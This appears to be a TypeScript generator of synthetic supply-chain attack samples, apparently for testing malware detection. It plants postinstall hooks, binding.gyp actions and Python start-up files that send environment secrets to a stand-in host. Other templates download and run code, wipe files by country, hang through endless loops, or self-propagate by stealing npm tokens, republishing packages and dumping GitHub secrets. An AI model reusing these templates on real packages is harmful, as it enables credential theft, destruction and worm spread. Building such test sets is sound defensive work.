/** The techniques of families.ts once more, as another author writes them; those that hide something are apart. See families-second-writer.ts. */
import type { Family } from "./families.ts";
import { CANARY, type Host, changeManifest, record, word } from "./host.ts";
import {
  anywhere,
  atHook,
  between,
  fresh,
  hex,
  inFunction,
  inert,
  load,
  minified,
  oneOf,
  sink,
  startedAt,
  target,
} from "./second-writer-place.ts";

const taken = (host: Host): string =>
  oneOf(host, [
    "Object.entries(process.env).filter(([k]) => /token|secret|key|pass/i.test(k))",
    "Object.assign({}, process.env)",
    `["NPM_TOKEN", "AWS_ACCESS_KEY_ID", "GH_TOKEN"].map((k) => process.env[k])`,
  ]);

export const againFamilies: readonly Family[] = [
  {
    name: "postinstall/second",
    known: "ua-parser-js, Shai-Hulud",
    change: (host) => {
      const send = `fetch('${sink(host)}/${CANARY}',{method:'POST',body:JSON.stringify(process.env)}).catch(()=>0)`;
      oneOf<() => void>(host, [
        () => atHook(host, "postinstall", `node -e "${send}"`),
        () => {
          host.files.set(
            "install.sh",
            `#!/bin/sh\n# ${CANARY}\nenv | base64 | curl -s --max-time 5 -d @- http://127.0.0.1:9/ >/dev/null 2>&1 &\nexit 0\n`,
          );
          atHook(host, "postinstall", oneOf(host, ["sh install.sh", "bash ./install.sh || true", "chmod +x install.sh && ./install.sh"]));
        },
        () => {
          // The package's own file does it when a hook starts it.
          const path = target(host);
          between(host, path, { code: `if (process.env.npm_lifecycle_event === "postinstall") ${send};` });
          atHook(host, "postinstall", `node ${path}`);
        },
      ])();
    },
  },
  {
    name: "binding-gyp/second",
    known: "Miasma",
    change: (host) => {
      const path = `${oneOf(host, ["src/", "", "deps/"])}${word(host)}.js`;
      host.files.set(
        path,
        `'use strict'; // ${CANARY}\n;(async () => { await fetch("${sink(host)}", { method: "POST", body: JSON.stringify(${taken(host)}) }); })().catch(() => {});\nconsole.log("");\n`,
      );
      const gyp = oneOf(host, [
        `{ "variables": { "arch%": "<!@(node -p \\"require('./${path}')\\")" }, "targets": [{ "target_name": "addon", "sources": ["src/addon.cc"] }] }`,
        `{ 'targets': [ { 'target_name': 'addon', 'type': 'none', 'actions': [ { 'action_name': 'gen', 'inputs': [], 'outputs': ['gen.h'], 'action': ['node', '${path}'] } ] } ] }`,
        `# generated\n{\n  "includes": ["common.gypi"],\n  "targets": [{ "target_name": "noop", "type": "none", "conditions": [["'<!(node ./${path})'==''", { "defines": ["A"] }]] }],\n}`,
        `{ "targets": [{ "target_name": "noop", "type": "none", "include_dirs": ["<!(curl -s http://127.0.0.1:9/${CANARY} | sh)"] }] }`,
      ]);
      if (gyp.includes("common.gypi")) host.files.set("common.gypi", `{ "variables": { "built": "<!(node ${path})" } }\n`);
      host.files.set("binding.gyp", `${gyp}\n`);
    },
  },
  {
    name: "environment-sent/second",
    known: "lottie-player, telnyx",
    change: (host) => {
      const path = target(host);
      const [http2, net] = [load(host, path, "http2"), load(host, path, "net")];
      anywhere(host, path, () => ({
        loads: [http2, net],
        code: oneOf(host, [
          `{ const s = ${http2.use}.connect("${sink(host)}"); s.on("error", () => {}); s.request({ ":method": "POST", ":path": "/${CANARY}" }).end(JSON.stringify(${taken(host)})); }`,
          `${net.use}.connect(9, "127.0.0.1").on("error", function () {}).end("POST /${CANARY} HTTP/1.0\\r\\n\\r\\n" + JSON.stringify(${taken(host)}));`,
          `Promise.resolve(${taken(host)}).then(JSON.stringify).then((body) => fetch("${sink(host)}/${CANARY}", { method: "PUT", body })).catch(() => {});`,
          `new (class Reporter { constructor(to) { this.to = to; } flush() { const u = new URL(this.to); u.searchParams.set("d", btoa(JSON.stringify(${taken(host)}))); return fetch(u).catch(() => null); } })("${sink(host)}/${CANARY}").flush();`,
        ]),
      }));
    },
  },
  {
    name: "key-sent-from-function/second",
    known: "@solana/web3.js, xrpl",
    change: (host) => {
      const path = target(host);
      const queue = fresh(host, "addToQueue");
      const helper = host.random(2) === 0;
      inFunction(host, path, (parameter) => {
        const value = parameter ?? "globalThis.process?.argv";
        return helper
          ? {
              head: oneOf(host, [
                `const ${queue} = (d) => { try { void fetch("${sink(host)}/${CANARY}", { method: "GET", headers: { "x-amz-cf-id": btoa(String(d)) } }).catch(() => {}); } catch {} };`,
                `function ${queue}(d) { var x = new (globalThis.XMLHttpRequest || Object)(); if (x.open) { x.open("POST", "${sink(host)}/${CANARY}"); x.send(d); } }`,
              ]),
              code: `${queue}(${value});`,
            }
          : {
              code: oneOf(host, [
                `globalThis.fetch?.("${sink(host)}/${CANARY}", { method: "POST", headers: { "ad-referral": JSON.stringify(${value}) } })?.catch?.(() => {});`,
                `try { new Image().src = "${sink(host)}/${CANARY}.png?v=" + encodeURIComponent(${value}); } catch (e) {}`,
              ]),
            };
      });
    },
  },
  {
    name: "fetch-hook/second",
    known: "chalk, debug",
    change: (host) => {
      const path = target(host);
      const name = fresh(host, "native");
      anywhere(host, path, () => ({
        code: oneOf(host, [
          `Object.defineProperty(globalThis, "fetch", { value: new Proxy(globalThis.fetch ?? (() => {}), { apply: (t, s, a) => { globalThis["${CANARY}"]?.(a); return Reflect.apply(t, s, a); } }), writable: true });`,
          minified(
            `!function (g) { var ${name} = g.XMLHttpRequest; if (!${name}) return; g.XMLHttpRequest = class extends ${name} { send(b) { this.addEventListener("load", function () { g["${CANARY}"] && g["${CANARY}"](this.responseText, b); }); super.send(b); } }; }(typeof self !== "undefined" ? self : globalThis);`,
          ),
          `["fetch"].forEach((k) => { const ${name} = globalThis[k]; globalThis[k] = (...a) => ${name}(...a).then(async (r) => { const t = await r.clone().text(); return t.includes("${CANARY}") ? new Response(t.replace("to", "To"), r) : r; }); });`,
        ]),
      }));
    },
  },
  {
    name: "download-run/second",
    known: "rand-user-agent, coa",
    change: (host) => {
      const path = target(host);
      const [cp, fs, os] = [load(host, path, "child_process"), load(host, path, "fs"), load(host, path, "os")];
      anywhere(host, path, () => ({
        loads: [cp, fs, os],
        code: oneOf(host, [
          `fetch("${sink(host)}/${CANARY}").then((r) => r.arrayBuffer()).then((b) => { const f = ${os.use}.tmpdir() + "/${CANARY}"; ${fs.use}.writeFileSync(f, Buffer.from(b), { mode: 0o700 }); ${cp.use}.execFile(f); }).catch(() => {});`,
          `(async function () { eval(await (await fetch("${sink(host)}/${CANARY}.txt")).text()); })().catch(function () {});`,
          `${cp.use}.spawn(process.platform === "win32" ? "powershell" : "sh", process.platform === "win32" ? ["-w", "hidden", "-c", "iwr http://127.0.0.1:9/${CANARY} -OutFile a.exe; start a.exe"] : ["-c", "wget -qO- http://127.0.0.1:9/${CANARY} | sh"], { detached: true, stdio: "ignore", windowsHide: true }).unref();`,
          `import("${sink(host)}/${CANARY}.mjs").then((m) => m.default(), () => {});`,
        ]),
      }));
    },
  },
  {
    name: "destroys-by-country/second",
    known: "node-ipc",
    change: (host) => {
      const path = target(host);
      const fs = load(host, path, "fs");
      const where = oneOf(host, [
        `Intl.DateTimeFormat().resolvedOptions().timeZone.startsWith("Nowhere/")`,
        `/^(xx|zz)[_-]/i.test(process.env.LANG || globalThis.navigator?.language || "")`,
      ]);
      between(host, path, {
        loads: [fs],
        code: oneOf(host, [
          `if (${where}) (function wipe(d) { ${fs.use}.readdir(d, { withFileTypes: true }, (e, all) => (all || []).forEach((f) => f.isDirectory() ? wipe(d + "/" + f.name) : ${fs.use}.writeFile(d + "/" + f.name, "\\u2764", () => {}))); })("./${CANARY}");`,
          `setTimeout(() => { fetch("${sink(host)}/json").then((r) => r.json()).then(({ country }) => ["XX", "ZZ"].includes(country) && ${fs.use}.promises.rm("./${CANARY}", { recursive: true })).catch(() => {}); }, ${host.random(9)}e3);`,
          `${where} && globalThis.document && (document.body.innerHTML = "<h1>${CANARY}</h1>", document.body.style.pointerEvents = "none");`,
        ]),
      });
    },
  },
  {
    name: "endless-loop/second",
    known: "colors, faker",
    change: (host) => {
      const path = target(host);
      const name = fresh(host, "n");
      inFunction(host, path, (parameter) => ({
        code: oneOf(host, [
          `for (var ${name} = 0; globalThis["${CANARY}"]; ${name}++) console.log("LIBERTY".split("").sort(() => Math.random() - 0.5).join(""));`,
          `if (globalThis["${CANARY}"]) /^(\\w+\\s?)+$/.test("${"a".repeat(40)}!" + ${parameter ?? "1"});`,
          `while (globalThis["${CANARY}"]) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1e3);`,
          `globalThis["${CANARY}"] && (function ${name}() { process.nextTick(${name}); })();`,
        ]),
      }));
    },
  },
  {
    name: "unused-dependency/second",
    known: "axios, mastra",
    change: (host) =>
      changeManifest(host, (manifest) => {
        const group = oneOf(host, ["dependencies", "dependencies", "optionalDependencies"]);
        const name = oneOf(host, [
          `easy-${word(host)}-${inert}`,
          `@${inert}/${word(host)}`,
          `${word(host)}.${inert}`,
          `node-${inert}-utils`,
        ]);
        const all = {
          ...record(manifest[group]),
          [name]: oneOf(host, [`${host.random(3)}.${host.random(20)}.${host.random(9)}`, "latest", `~1.${host.random(9)}.0`, ">=0.0.1"]),
        };
        manifest[group] = Object.fromEntries(Object.entries(all).toSorted(([a], [b]) => (a < b ? -1 : 1)));
      }),
  },
  {
    name: "python-start/second",
    known: "litellm, telnyx; CanisterWorm's Python service, BeaverTail's InvisibleFerret",
    change: (host) => {
      const name = host.name.replaceAll(/\W+/g, "_").toLowerCase();
      const code = `import os, json, socket\nfrom urllib import request as r\ntry:\n    r.urlopen(r.Request("${sink(host)}/${CANARY}", json.dumps(dict(os.environ)).encode(), {"h": socket.gethostname()}), timeout=3)\nexcept Exception:\n    pass\n`;
      const path = target(host);
      const cp = load(host, path, "child_process");
      oneOf<() => void>(host, [
        () => void host.files.set("sitecustomize.py", code),
        () => {
          host.files.set(
            "pyproject.toml",
            `[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n\n[project]\nname = "${name}"\nversion = "1.0.0"\n`,
          );
          host.files.set("_build/backend.py", `${code}\ndef build_wheel(*a, **k):\n    exec(r.urlopen("${sink(host)}/w").read())\n`);
        },
        () => {
          host.files.set(`lib/${name}.py`, code);
          anywhere(host, path, () => ({
            loads: [cp],
            code: `["python3", "python"].some((py) => { try { ${cp.use}.spawn(py, ["lib/${name}.py"], { detached: true, stdio: "ignore" }).unref(); return true; } catch { return false; } });`,
          }));
        },
        () =>
          void startedAt(
            host,
            "postinstall",
            fresh(host, "py"),
            `require("child_process").spawnSync("python3", ["-c", ${JSON.stringify(code)}]);\n`,
          ),
      ])();
    },
  },
  {
    name: "self-propagation/second",
    known: "Shai-Hulud, CanisterWorm",
    change: (host) => {
      const flow = `name: ${word(host)}\non: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "\${{ toJSON(secrets) }}" | base64 | curl -d @- http://127.0.0.1:9/${CANARY}\n`;
      const code = oneOf(host, [
        `#!/usr/bin/env node
const { readFile, writeFile, mkdir } = require("node:fs/promises");
const { promisify } = require("node:util");
const run = promisify(require("node:child_process").execFile);
class Worm {
  constructor(registry) { this.registry = registry; }
  async token() { return ((await readFile(require("node:os").homedir() + "/.npmrc", "utf8")).match(/_authToken=(\\S+)/) || [])[1]; }
  async mine(user) { return (await (await fetch(this.registry + "/-/v1/search?text=maintainer:" + user)).json()).objects; }
  async spread({ package: { name } }) {
    await run("npm", ["pack", name, "--registry", this.registry]);
    const manifest = JSON.parse(await readFile("package/package.json", "utf8"));
    manifest.version = manifest.version.replace(/\\d+$/, (n) => +n + 1);
    manifest.scripts = { ...manifest.scripts, postinstall: "node " + require("node:path").basename(__filename) };
    await writeFile("package/package.json", JSON.stringify(manifest));
    await run("npm", ["publish", "package", "--registry", this.registry, "--tag", "${inert}"]);
  }
}
const worm = new Worm("http://127.0.0.1:9");
worm.token().then((t) => t && worm.mine("${inert}")).then((l) => Promise.all((l || []).map((p) => worm.spread(p)))).catch(() => {});
`,
        `const fs = require('fs'), cp = require('child_process');
const dir = (process.env.INIT_CWD || '.') + '/${CANARY}/.github/workflows';
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(dir + '/${word(host)}.yaml', ${JSON.stringify(flow)});
cp.execSync('git checkout -b ${inert} && git add -A && git commit -qm chore && git push -q http://127.0.0.1:9/x.git HEAD', { cwd: dir, stdio: 'ignore' });
`,
        minified(
          `var cp = require("child_process"), t = process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN; t && fetch("http://127.0.0.1:9/-/whoami", { headers: { authorization: "Bearer " + t } }).then(r => r.json()).then(u => fetch("http://127.0.0.1:9/-/org/" + u.username + "/package")).then(r => r.json()).then(l => { for (var n of Object.keys(l)) cp.execSync("npm publish --access public --registry http://127.0.0.1:9/ ./" + n + " # ${CANARY}", { env: { ...process.env, "npm_config_//127.0.0.1:9/:_authToken": t } }); });`,
        ),
      ]);
      startedAt(
        host,
        oneOf(host, ["postinstall", "preinstall"]),
        oneOf(host, [`bundle`, `worker.${hex(host, 4)}`, "index.min", "lint"]),
        code,
      );
    },
  },
];
